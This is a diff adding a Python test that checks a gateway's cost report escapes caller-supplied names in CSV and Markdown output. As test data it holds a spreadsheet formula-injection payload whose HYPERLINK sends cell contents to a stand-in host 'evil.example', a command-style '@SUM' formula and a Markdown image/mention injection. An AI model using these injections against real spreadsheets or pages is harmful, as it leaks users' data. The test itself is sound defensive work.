@@ -249,3 +249,25 @@ def test_a_tag_with_a_value_per_call_folds_into_all_others(ws):
     assert len(lines) == 22 and lines[20].name == "(all others: 5 values)"
     assert lines[20].cost_usd == Decimal("0.00051")  # 100..104 micro-dollars
     assert (lines[21].name, lines[21].calls) == ("(no request)", 1)
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
+
+
+def test_names_from_callers_stay_text_in_the_csv_and_the_markdown(ws, tmp_path):
+    """A user id, model or tag value comes from whoever calls the gateway: in the CSV
+    it is no formula for a spreadsheet, in the Markdown no row, image or mention."""
+    now = datetime.now(UTC)
+    for user in (FORMULA, "| x | <img src=https://t.example/p.gif> @octocat", "-1.5"):
+        ws.record("complaint-router", {"q": "x"}, "ok", latency_ms=5, cost_micro_usd=42,
+                  time=now, user=user, model="@SUM(1+1)*cmd")
+    assert ws.flush()
+    paths, _ = cost_report.write(ws.cost_report(f"{now:%Y-%m}"), tmp_path)
+
+    rows = rows_of(paths["csv"])
+    assert ("user", "'" + FORMULA) in rows and ("model", "'@SUM(1+1)*cmd") in rows
+    assert ("user", "-1.5") in rows  # a number, not a formula
+    assert rows[("user", "'" + FORMULA)]["cost_usd"] == "0.000042"
+    text = paths["markdown"].read_text()
+    assert "| \\| x \\| &lt;img src=https://t.example/p.gif&gt; @&#8203;octocat |" in text
+    assert "<img" not in text and "@octocat" not in text
